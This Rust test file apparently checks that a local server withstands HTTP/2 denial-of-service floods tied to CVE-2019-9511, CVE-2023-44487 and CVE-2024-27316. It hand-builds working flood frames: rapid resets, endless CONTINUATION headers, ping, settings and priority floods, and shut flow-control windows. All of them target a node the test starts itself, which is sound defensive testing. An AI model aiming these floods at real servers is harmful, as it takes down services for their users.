//! What HTTP/2 lets a client send for little that costs a server much (CVE-2019-9511 ff., CVE-2023-44487, CVE-2024-27316).
//! Frames are written here byte by byte: no client library would send them.

use std::io::{Read, Write};
use std::time::{Duration, Instant};

use super::{during_over_tls, end};
use crate::support::Node;
use crate::tls::{Authority, Roots, Stream, node_of};

/// What an attack may take. A connection's own windows and buffers are some MiB.
const MEBIBYTES: u64 = 96;
/// Connections that attack at once.
const ATTACKERS: usize = 4;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET /` of localhost (RFC 7541: three indexed fields, and a literal one that is not kept).
const GET: [u8; 14] = *b"\x82\x87\x84\x01\x09localhost";
/// The head of `POST /`.
const POST: [u8; 14] = *b"\x83\x87\x84\x01\x09localhost";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// Frames that are sent again and again; `number` counts them from 0.
type Flood = fn(number: u32) -> Vec<u8>;

/// Each client stream has an odd number, higher than the ones before.
fn id(number: u32) -> u32 {
    number * 2 + 1
}

fn resets(number: u32) -> Vec<u8> {
    let get = frame(HEADERS, END_STREAM | END_HEADERS, id(number), &GET);
    [get, frame(RST_STREAM, 0, id(number), &[0, 0, 0, 8])].concat()
}

/// Makes the node reset them: a window that overflows is an error of the stream.
fn provoked_resets(number: u32) -> Vec<u8> {
    let post = frame(HEADERS, END_HEADERS, id(number), &POST);
    [
        post,
        frame(WINDOW_UPDATE, 0, id(number), &[0x7f, 0xff, 0xff, 0xff]),
    ]
    .concat()
}

fn settings(_: u32) -> Vec<u8> {
    // Another size of the table of headers, so that there is something to be done.
    frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0])
}

fn pings(_: u32) -> Vec<u8> {
    frame(PING, 0, 0, &[7; 8])
}

fn priorities(number: u32) -> Vec<u8> {
    frame(PRIORITY, 0, id(number), &[0, 0, 0, 0, 200])
}

/// A head that never ends: one request, and on and on.
fn continuations(number: u32) -> Vec<u8> {
    // Fields that are not kept, of a name and a value of 100 bytes each.
    let name = [&[0, 100][..], &[b'x'; 100]].concat();
    let field = [name, [&[100][..], &[b'y'; 100]].concat()].concat();
    let block = field.repeat(80);
    if number == 0 {
        frame(HEADERS, END_STREAM, 1, &[&GET[..], &block].concat())
    } else {
        frame(CONTINUATION, 0, 1, &block)
    }
}

/// Frames of a body without a byte in them.
fn empty_data(number: u32) -> Vec<u8> {
    if number == 0 {
        frame(HEADERS, END_HEADERS, 1, &POST)
    } else {
        frame(DATA, 0, 1, &[])
    }
}

/// Requests on every stream there may be, whose answers are not taken: the window for them is shut.
fn shut_windows(number: u32) -> Vec<u8> {
    if number == 0 {
        frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0])
    } else {
        frame(HEADERS, END_STREAM | END_HEADERS, id(number), &large())
    }
}

/// The head of a GET of the largest file there is.
fn large() -> Vec<u8> {
    let path = b"/api_docs/swagger-ui-bundle.js";
    let mut block = vec![0x82, 0x87, 0x04, u8::try_from(path.len()).unwrap()];
    block.extend(path);
    block.extend(b"\x01\x09localhost");
    block
}

#[test]
fn floods_of_frames() {
    let home = tempfile::tempdir().unwrap();
    let authority = Authority::new(home.path());
    let node = node_of(&authority, home.path()).start();
    let others = Roots::of(&authority);
    let attackers = Roots::with(&authority, &["h2"]);
    let floods: [(&str, Flood); 8] = [
        ("HTTP/2 resets", resets),
        ("HTTP/2 provoked resets", provoked_resets),
        ("HTTP/2 settings", settings),
        ("HTTP/2 pings", pings),
        ("HTTP/2 priorities", priorities),
        ("HTTP/2 continuations", continuations),
        ("HTTP/2 empty data", empty_data),
        ("HTTP/2 shut windows", shut_windows),
    ];
    for (what, flood) in floods {
        let (frames, connections) = during_over_tls(what, (&node, &others), MEBIBYTES, || {
            attack(&node, &attackers, flood)
        });
        println!("{frames} times over {connections} connections");
        assert!(frames > 0);
    }
}

/// Sends it over several connections at once; where one is closed, over the next.
fn attack(node: &Node, roots: &Roots, flood: Flood) -> (u64, u64) {
    let end = end();
    std::thread::scope(|scope| {
        let attackers: Vec<_> = (0..ATTACKERS)
            .map(|_| {
                scope.spawn(move || {
                    let (mut frames, mut connections) = (0, 0);
                    while connections == 0 || Instant::now() < end {
                        frames += over_one(&mut roots.connect(node), flood, end);
                        connections += 1;
                    }
                    (frames, connections)
                })
            })
            .collect();
        let sums = attackers
            .into_iter()
            .map(|attacker| attacker.join().unwrap());
        sums.fold((0, 0), |sum, one| (sum.0 + one.0, sum.1 + one.1))
    })
}

/// Until it is closed, does not take any more, or time is up. Nothing of what the node says is read until then.
fn over_one(stream: &mut Stream, flood: Flood, end: Instant) -> u64 {
    stream
        .sock
        .set_write_timeout(Some(Duration::from_millis(500)))
        .unwrap();
    stream
        .sock
        .set_read_timeout(Some(Duration::from_millis(500)))
        .unwrap();
    let opening = [
        &b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..],
        &frame(SETTINGS, 0, 0, &[]),
    ]
    .concat();
    if stream.write_all(&opening).is_err() {
        return 0;
    }
    let mut sent = 0;
    for number in 0.. {
        if stream.write_all(&flood(number)).is_err() || Instant::now() > end {
            break;
        }
        sent += 1;
    }
    // Who holds on to what he was given: the shut windows stay so until the end.
    let mut byte = [0; 1024];
    while Instant::now() < end && matches!(stream.read(&mut byte), Ok(1..)) {}
    sent
}
